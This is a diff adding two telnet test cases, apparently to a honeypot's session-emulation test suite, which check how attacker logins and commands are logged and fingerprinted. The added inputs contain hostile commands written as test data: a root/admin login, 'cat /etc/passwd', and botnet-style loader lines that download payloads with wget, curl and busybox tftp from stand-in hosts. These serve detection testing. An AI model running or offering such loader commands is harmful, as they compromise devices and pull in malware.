@@ -379,6 +379,29 @@ static const struct script scripts[] = {
 	 "auth username=a password=b method=password ok=false\nauth username=c password=d "
 	 "method=password ok=false\n"
 	 "auth username=e password=f method=password ok=false\n"},
+	{"telnet: options, a backspace, Ctrl-C and NUL after CR",
+	 "telnet",
+	 NULL,
+	 SV("\xff\xfd\x01\xff\xfa\x1f\0\x50\0\x18\xff\xf0roox\x7ft\r\0admin\r\npw\x03pwd\r\ncat "
+	    "/etc/passwd\r\n"),
+	 0,
+	 {"\xff\xfb\x01\xff\xfb\x03", "roox\b \bt\r\nPassword: ", "^C\r\n", "ubuntu:x:1000:1000:"},
+	 "auth username=root password=admin method=password ok=true\ncommand command=pwd\n"
+	 "command command=cat /etc/passwd\n"},
+	{"telnet: where the tools come from",
+	 "telnet",
+	 NULL,
+	 SV("root\r\nadmin\r\ncd /tmp; wget http://203.0.113.9:8080/x.sh -O /tmp/x; curl "
+	    "bad.example/y\r\n/bin/busybox tftp -g -r a 203.0.113.7\r\n"),
+	 0,
+	 {"No route to host.\r\n", "Could not resolve host: bad.example\r\n", "tftp: timeout\r\n"},
+	 "auth username=root password=admin method=password ok=true\n"
+	 "command command=cd /tmp; wget http://203.0.113.9:8080/x.sh -O /tmp/x; curl "
+	 "bad.example/y\n"
+	 "fingerprint primitive=c2.endpoint value=203.0.113.9:8080\n"
+	 "fingerprint primitive=c2.endpoint value=bad.example:80\n"
+	 "command command=/bin/busybox tftp -g -r a 203.0.113.7\n"
+	 "fingerprint primitive=c2.endpoint value=203.0.113.7:69\n"},
 	{"telnet: the loader's usual lines",
 	 "telnet",
 	 "{\"user\":\"support\",\"user_password\":\"support\",\"hostname\":\"cam\"}",
